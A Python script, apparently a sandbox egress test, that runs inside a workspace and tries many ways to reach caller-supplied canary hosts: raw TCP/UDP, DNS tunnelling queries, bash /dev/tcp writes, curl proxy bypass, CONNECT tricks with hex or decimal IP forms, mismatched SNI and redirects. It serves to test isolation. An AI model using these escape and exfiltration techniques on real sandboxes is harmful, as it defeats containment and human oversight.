"""Runs inside a workspace: every way out that anybody might try. Standard library only; prints what came of each.

`tries.py JSON`, with the addresses and names of canaries that must never hear a byte.
"""

import json
import os
import socket
import ssl
import subprocess
import sys
import urllib.request

PAYLOAD = b"GET /stolen HTTP/1.1\r\nHost: canary\r\n\r\n"
QUESTION = b"\x12\x34\x01\0\0\x01\0\0\0\0\0\0\x06stolen\x04test\0\0\x10\0\x01"  # DNS, for TXT of stolen.test
told = json.loads(sys.argv[1])
done = {}


def attempt(name, function, *args):
    try:
        done[name] = function(*args) or "nothing"
    except Exception as error:
        done[name] = type(error).__name__


def tcp(address, port):
    with socket.create_connection((address, port), timeout=2) as sock:
        sock.sendall(PAYLOAD)
        return sock.recv(100).decode("latin-1")


def udp(address, port):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.sendto(
            b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x06stolen\x04test\x00\x00\x10\x00\x01", (address, port)
        )


def abstract(name):
    with socket.socket(socket.AF_UNIX) as sock:
        sock.settimeout(2)
        sock.connect("\0" + name)
        sock.sendall(PAYLOAD)


def proxied(request):
    with socket.create_connection(("127.0.0.1", 3128), timeout=10) as sock:
        sock.sendall(request.encode())
        answer = sock.recv(300)
        if answer.startswith(b"HTTP/1.1 200"):
            sock.sendall(PAYLOAD)
            answer += sock.recv(300)
        return answer.decode("latin-1")


def connect(host, port):
    return proxied(f"CONNECT {host}:{port} HTTP/1.1\r\nHost: {host}:{port}\r\n\r\n")


def plain(host, port):
    return proxied(f"GET http://{host}:{port}/stolen HTTP/1.1\r\nHost: {host}:{port}\r\n\r\n")


def other_sni(host, port):
    sock = socket.create_connection(("127.0.0.1", 3128), timeout=10)
    sock.sendall(f"CONNECT {host}:{port} HTTP/1.1\r\n\r\n".encode())
    sock.recv(300)
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.wrap_socket(sock, server_hostname="other.test").sendall(PAYLOAD)


def without_proxy(url):
    return urllib.request.build_opener(urllib.request.ProxyHandler({})).open(url, timeout=2).read().decode()


def bash(words):
    return str(subprocess.run(["bash", "-c", words], timeout=5, capture_output=True).returncode)


for address, port in told["tcp"]:
    attempt(f"tcp {address}", tcp, address, port)
    attempt(f"/dev/tcp {address}", bash, f"echo stolen > /dev/tcp/{address}/{port}")
    attempt(f"CONNECT {address}", connect, address, port)
    attempt(f"GET {address}", plain, address, port)
    attempt(f"no proxy {address}", without_proxy, f"http://{address}:{port}/stolen")
    attempt(f"curl without proxy {address}", bash, f"curl --noproxy '*' -m 2 http://{address}:{port}/stolen")
    packed = socket.inet_aton(address)
    for form in (hex(int.from_bytes(packed, "big")), str(int.from_bytes(packed, "big")), f"[::ffff:{address}]"):
        attempt(f"CONNECT {form}", connect, form, port)
for address, port in told["udp"]:
    attempt(f"udp {address}", udp, address, port)
for name in told["abstract"]:
    attempt(f"abstract {name}", abstract, name)
for name, port in told["names"]:
    attempt(f"name {name}", tcp, name, port)
    attempt(f"CONNECT {name}", connect, name, port)
    attempt(f"GET {name}", plain, name, port)
    attempt(f"curl {name}", bash, f"curl -sS -m 5 http://{name}:{port}/stolen")
    attempt(f"lookup {name}", lambda name=name: str(socket.getaddrinfo(f"secret.{name}", 80)))
for host, port in told["sni"]:
    attempt(f"sni {host}", other_sni, host, port)
for url in told["redirects"]:
    attempt(f"redirect {url}", bash, f"curl -sS -L -m 5 {url}")
assert os.path.exists("/workspace")
print(json.dumps(done))
